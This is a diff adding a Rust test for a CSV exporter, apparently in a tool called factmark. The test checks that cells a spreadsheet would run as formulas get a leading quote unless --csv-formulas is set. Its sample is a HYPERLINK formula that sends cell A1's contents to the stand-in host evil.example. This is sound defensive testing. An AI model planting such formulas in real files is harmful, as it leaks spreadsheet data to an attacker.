@@ -477,3 +477,28 @@ fn an_article_exports_the_annotations_made_on_its_text_and_nothing_else() {
         "made on a different text",
     );
 }
+
+/// A rationale or quote that a spreadsheet would run as a formula is written as text by
+/// default (a leading '), and as it is with --csv-formulas.
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_unless_asked() {
+    let dir = Dir::new();
+    let mut document = fixture();
+    let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for sources\")";
+    let mut claim = document.claims()[0].clone();
+    claim.rationale = hostile.to_owned();
+    document.replace_claim(claim).expect("replaced");
+    let file = dir.path("hostile.factmark.json");
+    factmark::format::save(&document, &file).expect("saved");
+    let read = |extra: &[&str]| {
+        let mut args = vec!["export", file.to_str().expect("utf-8"), "--format", "csv"];
+        args.extend_from_slice(extra);
+        let run = dir.run(&args);
+        run.assert_code(0);
+        let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
+        let row = reader.records().next().expect("a row").expect("row");
+        row.get(5).expect("rationale").to_owned()
+    };
+    assert_eq!(read(&[]), format!("'{hostile}"));
+    assert_eq!(read(&["--csv-formulas"]), hostile);
+}
